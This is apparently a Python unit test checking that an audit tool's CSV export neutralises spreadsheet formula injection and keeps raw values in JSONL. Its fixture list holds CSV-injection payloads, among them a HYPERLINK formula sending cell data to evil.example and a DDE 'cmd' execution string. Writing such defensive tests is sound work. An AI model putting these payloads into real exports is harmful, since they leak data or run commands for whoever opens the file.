"""What `sovgw audit` prints of values a record holds that a client (or a writer forging records)
chose: CSV cells a spreadsheet would run as formulas, control characters and bytes that are not
UTF-8 (they must not forge a table row, drive the terminal, or break JSON)."""

import csv
import io
import subprocess
import unittest

from test_audit_support import SOVGW, TAMPER, audit_case, run, sovgw

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\\tTAB",
            "\\rCR"]


class csv_test(audit_case):
    def setUp(self):
        super().setUp()
        self.append(3)
        for model in FORMULAS:
            run(TAMPER, self.db, "append-with", self.keys, "model", model, check=0)

    def test_cells_a_spreadsheet_reads_as_formulas_start_with_a_quote(self):
        out = subprocess.run([SOVGW, "audit", "query", "--db", self.db, "--format", "csv"], capture_output=True,
                             check=True).stdout.decode()
        rows = list(csv.reader(io.StringIO(out, newline="")))
        model = rows[0].index("model")
        self.assertEqual([row[model] for row in rows[4:]],
                         ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+cmd|' /C calc'!A0", "'-2+3",
                          "'@SUM(1)", "'\tTAB", "'\rCR"])
        # Cells that do not start so are as they were: numbers, times, ordinary text.
        self.assertEqual(rows[1][0], "0")
        self.assertEqual(rows[1][model], "mistral-small")
        self.assertRegex(rows[1][1], r"^20\d\d-")
        # JSON lines keep the value as recorded.
        jsonl = sovgw("audit", "query", "--db", self.db, "--format", "jsonl", check=0).stdout
        self.assertIn('"model":"=HYPERLINK(', jsonl)


if __name__ == "__main__":
    unittest.main()
